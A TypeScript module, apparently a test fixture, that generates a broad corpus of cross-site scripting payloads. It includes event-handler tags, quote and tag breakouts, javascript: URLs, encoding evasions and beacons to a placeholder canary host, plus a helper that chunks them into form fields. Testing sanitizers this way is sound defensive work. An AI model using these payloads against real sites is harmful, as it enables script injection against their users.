/** Where a page that runs a payload tells of it; nothing answers there. */
export const CANARY_HOST = 'canary.invalid';

/** What a payload runs: a mark in the page, and a request that is seen even when the page is gone. */
const RUN = `window.__ran=1;new Image().src='//${CANARY_HOST}/'+Date.now()`;
const CODE = 'window.__ran=1';

const EVENTS: readonly (readonly [string, string])[] = [
  ['img src=x', 'onerror'],
  ['img src', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['a autofocus tabindex=1', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['iframe', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['marquee', 'onstart'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['math><mtext', 'onpointerrawupdate'],
  ['xss style="animation-name:x"', 'onanimationstart'],
];

/** What a place may have to be left by before anything else counts: text, an attribute, an element, a script, JSON. */
const WAYS_OUT = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '`>',
  '-->',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  ']]>',
  '</noscript>',
  '</iframe>',
  '</template>',
  '\\">',
];

const elements = EVENTS.map(([tag, event]) => `<${tag} ${event}="${RUN}">`);

const leaving = WAYS_OUT.flatMap((out) => [
  `${out}<script>${CODE}</script>`,
  `${out}<img src=x onerror=${CODE}>`,
  `${out}<svg/onload=${CODE}>`,
  `${out} autofocus onfocus=${CODE} x=`,
  `${out}<iframe srcdoc="<script>parent.${CODE}</script>">`,
]);

const inScripts = [
  `</script><script>${CODE}//`,
  `</ScRiPt ><sCrIpT>${CODE}</sCrIpT>`,
  `<!--<script>${CODE}//-->`,
  `"};${CODE};//`,
  `';${CODE};//`,
  `\\";${CODE};//`,
  `\\u003cscript\\u003e${CODE}\\u003c/script\\u003e`,
  `\u2028${CODE}\u2029`,
  `$\{${CODE}}`,
  '{{constructor.constructor("window.__ran=1")()}}',
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${CODE}>"}}}`,
  `]]><script>${CODE}</script>`,
];

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  ' javascript:',
  'javascript&colon;',
  'vbscript:',
  'data:text/html,',
];
const addresses = SCHEMES.flatMap((scheme) => [
  `${scheme}${CODE}`,
  `[tekst](${scheme}${CODE})`,
  `![bilde](${scheme}${CODE})`,
  `<a href="${scheme}${CODE}">tekst</a>`,
  `<iframe src="${scheme}${CODE}">`,
  `<form action="${scheme}${CODE}"><button autofocus>`,
  `<object data="${scheme}${CODE}">`,
  `<meta http-equiv=refresh content="0;url=${scheme}${CODE}">`,
]);

const disguised = [
  `<script>${CODE}</script>`,
  `<img src=x onerror=${CODE}>`,
  `<svg onload=${CODE}>`,
  `<a href=javascript:${CODE}>x</a>`,
].flatMap((payload) => [
  payload.toUpperCase().replaceAll('WINDOW.__RAN', 'window.__ran'),
  payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  payload.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
  payload.replaceAll('<', '＜').replaceAll('>', '＞'),
  payload.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  payload.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  payload.replaceAll(' ', '/'),
  payload.replaceAll(' ', '\n'),
  payload.replaceAll('<', '<<'),
  payload.replaceAll('<', '<\u200b'),
  `<noscript><p title="</noscript>${payload}">`,
  `<math><mtext><table><mglyph><style><!--</style>${payload}`,
  `<template>${payload}</template>`,
  `<mark>${payload}</mark>`,
  `**${payload}**`,
  `<svg><style><${payload}`,
]);

const styles = [
  `<style>@import '//${CANARY_HOST}/a.css';</style>`,
  `<link rel=stylesheet href=//${CANARY_HOST}/b.css>`,
  `<base href=//${CANARY_HOST}/>`,
  `<img src=//${CANARY_HOST}/c.png>`,
  `<video poster=//${CANARY_HOST}/d.png>`,
  `<p style="background:url(//${CANARY_HOST}/e)">`,
  `<iframe src=//${CANARY_HOST}/f></iframe>`,
  `![x](//${CANARY_HOST}/g.png)`,
];

const quoted = elements.flatMap((payload) => [`"'>${payload}`, `</textarea></title></style>${payload}`]);

export const SCRIPT_PAYLOADS: readonly string[] = [
  ...new Set([...elements, ...quoted, ...leaving, ...inScripts, ...addresses, ...disguised, ...styles]),
];

/** All of them, in pieces that fit into a field. */
export function payloadsInPieces(longest: number): string[] {
  const pieces: string[] = [];
  for (const payload of SCRIPT_PAYLOADS.filter(({ length }) => length <= longest)) {
    const last = pieces.at(-1);
    if (last !== undefined && last.length + payload.length + 1 <= longest)
      pieces[pieces.length - 1] = `${last} ${payload}`;
    else pieces.push(payload);
  }
  return pieces;
}
